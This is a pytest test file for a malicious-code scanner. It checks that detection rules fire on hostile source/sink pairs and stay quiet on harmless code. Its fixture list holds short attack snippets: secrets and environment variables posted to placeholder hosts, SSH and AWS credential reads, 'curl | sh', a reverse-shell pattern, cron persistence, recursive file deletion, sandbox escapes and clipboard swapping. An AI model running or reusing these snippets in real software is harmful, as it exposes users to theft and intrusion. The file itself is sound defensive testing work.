"""A kind of source that meets a kind of sink fires its rule, at its line; either alone does not."""

from __future__ import annotations

import asyncio

import pytest

FIRES = [
    ("runs-what-it-decoded", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", 3),
    (
        "runs-what-it-decoded",
        "import zlib\ndef open_it(x):\n    return zlib.decompress(x)\ny = open_it(b'a')\neval(y)",
        6,
    ),
    ("runs-what-it-decoded", "exec(''.join(chr(c ^ 7) for c in (1, 2)))", 2),
    ("runs-what-it-fetched", "import urllib.request as r\ntext = r.urlopen('https://a.invalid').read()\nexec(text)", 4),
    (
        "runs-what-it-fetched",
        "import requests, subprocess\nopen('a', 'wb').write(requests.get('http://a.invalid').content)",
        None,
    ),
    ("hidden-name", "getattr(__builtins__, 'ex' + 'ec')('1')", 2),
    ("hidden-name", "__import__('so'[::-1]).getcwd()", 2),
    ("hidden-name", "import os\nos.__dict__['sys' + 'tem']('id')", 3),
    ("leaks-secrets", "import os, requests\nrequests.post('https://a.invalid', json=dict(os.environ))", 3),
    (
        "leaks-secrets",
        "import os, requests\nt = os.environ['API_TOKEN']\nrequests.get('https://a.invalid', params=t)",
        4,
    ),
    (
        "leaks-secrets",
        "async def f(self):\n    c = await self.clipboard.read()\n    await self.api_call('https://a.invalid', json=c)",
        4,
    ),
    (
        "leaks-secrets",
        "async def f(self, value):\n    await self.api_call('https://a.invalid', json=value['password'])",
        3,
    ),
    ("reports-the-machine", "import socket, requests\nrequests.get('https://a.invalid/?h=' + socket.gethostname())", 3),
    ("reads-credentials", "import os\np = os.path.expanduser('~/.ssh/id_rsa')\nopen(p).read()", 4),
    ("reads-credentials", "from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()", 3),
    ("asks-the-metadata-service", "BASE = 'http://169.254.169.254/latest'", 2),
    ("captures-input", "from pynput import keyboard", 2),
    ("runs-a-script", "import os\nos.system('curl https://a.invalid/x | sh')", 3),
    ("opens-a-shell", "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)\nos.system('/bin/sh')", None),
    ("stays-behind", "with open('/etc/cron.d/x', 'w') as f:\n    f.write('a')", 2),
    ("destroys-files", "import os\nfor a, b, c in os.walk('/'):\n    os.remove(c[0])", 4),
    ("mines-coins", "POOL = 'stratum+tcp://a.invalid:1'", 2),
    ("leaves-the-sandbox", "x = ().__class__.__bases__[0].__subclasses__()", 2),
    ("leaves-the-sandbox", "def f(g):\n    return g.gi_frame.f_back", 3),
    (
        "nags-for-permissions",
        "async def f(self):\n    while True:\n        await self.permissions.request('a', 'b')",
        4,
    ),
    (
        "runs-what-it-fetched",
        "import importlib\nasync def f(self):\n    m = await self.api_call('https://a.invalid')\n    importlib.import_module(m)",
        5,
    ),
    ("runs-what-it-fetched", "import _pickle as p\nasync def f(self):\n    p.loads(await self.asset('a.bin'))", 4),
    ("hidden-name", "name = lambda *n: ''.join(map(chr, n))\nglobals()[name(101, 118)]", 3),
    ("reports-the-machine", "import socket\nsocket.getaddrinfo(f'{socket.gethostname()}.a.invalid', 80)", 3),
    ("reports-the-machine", "import socket\ndef f(b):\n    socket.gethostbyname(f'{b.hex()}.a.invalid')", 4),
    (
        "leaks-secrets",
        "import os, requests\nfor a, b, c in os.walk(os.environ['HOME']):\n    requests.post('https://a.invalid', data=open(c[0]).read())",
        4,
    ),
    ("known-drop", "import requests\nrequests.post('http://203.0.113.9/x', json={})", 3),
]
QUIET = [
    "import base64\nraw = base64.b64decode('aGVsbG8=')",
    "exec(compile('x = 1', 'a', 'exec'))",
    "import os\nlevel = os.environ.get('LEVEL', 'info')\nimport requests\nrequests.get('https://a.invalid', params=level)",
    "import socket\nname = socket.gethostname()",
    "async def f(self):\n    await self.clipboard.write('7')",
    "async def f(self, value):\n    await self.api_call('/contas/senha', json=value['password'])",
    "HELP = 'Never send the file ~/.ssh/id_rsa to anybody who asks you.'",
    "text = 'a/b'.split('/')\nimport os\nos.remove('cache.json')",
    "x = [cls.__name__ for cls in int.__subclasses__()]",
    "import traceback\ndef f(tb):\n    return tb.tb_frame.f_globals",
    "from pathlib import Path\nPath('out.txt').write_text('x')",
    "getattr(object(), 'do_' + 'open', None)",
    "import socket\nsocket.getaddrinfo(socket.gethostname(), 80)",
]


def rules_of(result):
    return {(issue.rule, issue.line) for issue in result.issues}


@pytest.mark.parametrize(
    ("rule", "source", "line"), [item for item in FIRES if item[2]], ids=lambda value: str(value)[:40]
)
def test_a_source_that_meets_its_sink_is_found_at_its_line(scan, rule, source, line):
    result = asyncio.run(scan(source))
    assert (rule, line) in rules_of(result)
    assert not result.passed


def test_a_socket_and_a_shell_are_joined(scan):
    source = next(source for rule, source, _ in FIRES if rule == "opens-a-shell")
    assert "opens-a-shell" in {rule for rule, _ in rules_of(asyncio.run(scan(source)))}


def test_what_is_downloaded_to_a_file_is_followed_to_the_process(scan):
    source = (
        "import requests, subprocess\nname = 'a'\nopen(name, 'wb').write(requests.get('http://a.invalid').content)\n"
    )
    result = asyncio.run(scan(f"{source}subprocess.run([name])"))
    assert ("runs-what-it-fetched", 5) in rules_of(result)
    assert asyncio.run(scan(f"{source}subprocess.run(['ls'])")).passed


@pytest.mark.parametrize("source", QUIET)
def test_a_source_or_a_sink_alone_passes(scan, source):
    result = asyncio.run(scan(source))
    assert result.passed, result.reasons


def test_a_text_that_is_itself_a_source_is_read(scan):
    inner = "import os, requests; requests.post('https://a.invalid', json=dict(os.environ))"
    result = asyncio.run(scan(f"open('a.py', 'w').write({inner!r})"))
    assert ("leaks-secrets", 2) in rules_of(result)


def test_the_clipboard_is_swapped_only_where_an_address_is_known(scan):
    body = "async def f(self):\n    t = await self.clipboard.read()\n    await self.clipboard.write({})\n"
    swapped = asyncio.run(
        scan(body.format("'bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh'"), permissions=["system.clipboard"])
    )
    copied = asyncio.run(scan(body.format("t.strip()"), permissions=["system.clipboard"]))
    assert "swaps-the-clipboard" in {issue.rule for issue in swapped.issues}
    assert copied.passed
